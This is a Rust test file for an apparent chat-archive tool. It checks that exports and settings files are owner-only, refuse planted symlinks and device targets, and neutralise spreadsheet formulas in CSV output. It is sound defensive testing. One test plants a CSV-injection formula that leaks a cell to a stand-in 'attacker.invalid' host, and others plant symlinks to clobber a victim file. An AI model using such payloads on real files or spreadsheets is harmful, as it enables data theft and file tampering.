#![allow(clippy::unwrap_used)] // Tests fail loudly on purpose.
//! Files chatkeep writes for its users, in a folder someone else may also write to:
//! private, never through a planted link, never over a file unasked, never onto a
//! device; and CSV that is safe to open in a spreadsheet. Read back with Python's
//! `csv` module.
mod common;

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;

use chatkeep_core::config::ExportSettings;
use chatkeep_core::domain::Actor;
use chatkeep_core::ops::demo::{SeedOptions, seed_demo};
use chatkeep_core::ops::export::{ExportRequest, export, plan};
use chatkeep_core::ops::{Cancel, NoProgress};
use chatkeep_core::store::AuditFilter;
use chatkeep_core::store::sqlx;
use chatkeep_core::{Config, audit};
use chrono_tz::Tz;
use common::{TestDb, at, clock};

async fn seeded() -> TestDb {
    let db = TestDb::new().await;
    let options =
        SeedOptions { conversations: 30, messages: 300, months: 2, seed: 9, until: at(2026, 11, 20, 0, 0, 0) };
    seed_demo(&db.store, &options, Actor::Cli, &clock(), &NoProgress).await.unwrap();
    db
}

fn request(format: &str, out: &Path) -> ExportRequest {
    ExportRequest {
        from: "2026-10-01".into(),
        to: "2026-11-19".into(),
        format: format.into(),
        include_messages: true,
        out: Some(out.to_path_buf()),
        ..ExportRequest::default()
    }
}

async fn run(db: &TestDb, request: &ExportRequest) -> chatkeep_core::Result<PathBuf> {
    let plan = plan(&db.store, request, Tz::UTC, &ExportSettings { max_range_days: 400 }).await?;
    Ok(export(&db.store, &plan, Tz::UTC, Actor::Cli, &clock(), &NoProgress, &Cancel::new()).await?.path)
}

fn mode(path: &Path) -> u32 {
    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
}

fn leftovers(dir: &Path) -> Vec<String> {
    std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().to_string())
        .filter(|n| n.ends_with(".partial"))
        .collect()
}

#[tokio::test]
async fn an_export_is_private_ignores_planted_links_and_replaces_a_file_only_when_asked() {
    let db = seeded().await;
    let dir = db.dir.path().join("exports");
    std::fs::create_dir(&dir).unwrap();
    let target = dir.join("october.csv");

    // Someone plants the temporary name chatkeep once used, pointing at a file of the user's.
    let victim = db.dir.path().join("victim.txt");
    std::fs::write(&victim, "keep me").unwrap();
    std::os::unix::fs::symlink(&victim, dir.join(".october.csv.partial")).unwrap();
    run(&db, &request("csv", &target)).await.unwrap();
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "keep me", "nothing was written through the link");
    assert_eq!(mode(&target), 0o600, "an export holds chat data: owner-only");
    assert!(std::fs::read_to_string(&target).unwrap().starts_with("conversation_id,"));
    std::fs::remove_file(dir.join(".october.csv.partial")).unwrap();

    // An existing file is replaced only when asked.
    let err = run(&db, &request("csv", &target)).await.unwrap_err();
    assert!(err.to_string().contains("already exists") && err.to_string().contains("--overwrite"), "{err}");
    run(&db, &ExportRequest { overwrite: true, ..request("jsonl", &target) }).await.unwrap();
    assert!(std::fs::read_to_string(&target).unwrap().starts_with('{'), "replaced when asked");

    // Targets that are not regular files are refused with their reason, even when replacing is allowed.
    let link = dir.join("link.csv");
    std::os::unix::fs::symlink(&victim, &link).unwrap();
    let fifo = dir.join("fifo.csv");
    assert!(Command::new("mkfifo").arg(&fifo).status().unwrap().success());
    for (target, reason) in [
        (link.as_path(), "symbolic link"),
        (fifo.as_path(), "not a regular file"),
        (Path::new("/dev/null"), "not a regular file"),
    ] {
        let err = run(&db, &ExportRequest { overwrite: true, ..request("csv", target) }).await.unwrap_err();
        assert!(err.to_string().contains(reason), "{}: {err}", target.display());
    }
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "keep me");
    assert!(leftovers(&dir).is_empty(), "no partial file is left: {:?}", leftovers(&dir));
}

#[tokio::test]
async fn csv_cells_a_spreadsheet_would_run_are_neutralised_unless_raw_is_asked_for() {
    let db = seeded().await;
    let formula = r#"=HYPERLINK("http://attacker.invalid/?leak="&A1,"click")"#;
    let (message, conversation): (String, String) = sqlx::query_as(
        "SELECT m.external_id, c.external_id FROM messages m JOIN conversations c ON c.id = m.conversation_id
         WHERE m.created_at >= '2026-10-02' ORDER BY m.id LIMIT 1",
    )
    .fetch_one(&mut db.raw().await)
    .await
    .unwrap();
    sqlx::query("UPDATE messages SET body = $1 WHERE external_id = $2")
        .bind(formula)
        .bind(&message)
        .execute(&mut db.raw().await)
        .await
        .unwrap();
    sqlx::query("UPDATE conversations SET title = '@SUM(1+1)' WHERE external_id = $1")
        .bind(&conversation)
        .execute(&mut db.raw().await)
        .await
        .unwrap();

    let read = |path: &Path| -> serde_json::Value {
        let script = r#"
import csv, json, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="", encoding="utf-8")))
print(json.dumps({r["message_id"]: [r["body"], r["conversation_title"]] for r in rows}))
"#;
        let out = Command::new("python3").arg("-c").arg(script).arg(path).output().expect("python3 reads CSV");
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        serde_json::from_slice(&out.stdout).unwrap()
    };
    let safe = run(&db, &request("csv", &db.dir.path().join("safe.csv"))).await.unwrap();
    let cells = &read(&safe)[&message];
    assert_eq!(cells[0], format!("'{formula}"), "the formula is shown, not run");
    assert_eq!(cells[1], "'@SUM(1+1)");

    let raw = ExportRequest { raw_csv: true, ..request("csv", &db.dir.path().join("raw.csv")) };
    let raw = run(&db, &raw).await.unwrap();
    let cells = &read(&raw)[&message];
    assert_eq!((cells[0].as_str().unwrap(), cells[1].as_str().unwrap()), (formula, "@SUM(1+1)"), "raw keeps them");

    // JSON keeps every value exact.
    let json = run(&db, &request("jsonl", &db.dir.path().join("exact.jsonl"))).await.unwrap();
    let text = std::fs::read_to_string(json).unwrap();
    let line = text.lines().find(|l| l.contains(&format!("\"{message}\""))).unwrap();
    let record: serde_json::Value = serde_json::from_str(line).unwrap();
    assert_eq!(record["body"], formula, "{line}");
}

#[tokio::test]
async fn the_audit_csv_and_the_saved_settings_file_are_private_and_never_follow_links() {
    let db = seeded().await;
    let csv = db.dir.path().join("audit.csv");
    let filter = AuditFilter { since: None, action: None, limit: None };
    assert!(audit::export_csv(&db.store, &filter, &csv, false).await.unwrap() > 0);
    assert_eq!(mode(&csv), 0o600);
    let err = audit::export_csv(&db.store, &filter, &csv, false).await.unwrap_err();
    assert!(err.to_string().contains("already exists"), "{err}");
    audit::export_csv(&db.store, &filter, &csv, true).await.unwrap();

    // The settings file can hold tokens: owner-only, written beside itself and renamed.
    let config = db.dir.path().join("chatkeep.toml");
    std::fs::write(&config, "# mine\n[retention]\ndefault_days = 90\n").unwrap();
    std::fs::set_permissions(&config, std::fs::Permissions::from_mode(0o644)).unwrap();
    std::os::unix::fs::symlink(db.dir.path().join("victim.txt"), db.dir.path().join("chatkeep.toml.saving")).unwrap();
    Config::save_settings_with(&config, &[("retention.default_days".into(), "120".into())], &|_| None).unwrap();
    assert_eq!(mode(&config), 0o600);
    let saved = std::fs::read_to_string(&config).unwrap();
    assert!(saved.contains("# mine") && saved.contains("default_days = 120"), "{saved}");
    assert!(!db.dir.path().join("victim.txt").exists(), "nothing was written through the planted link");
    assert!(leftovers(db.dir.path()).is_empty());
}
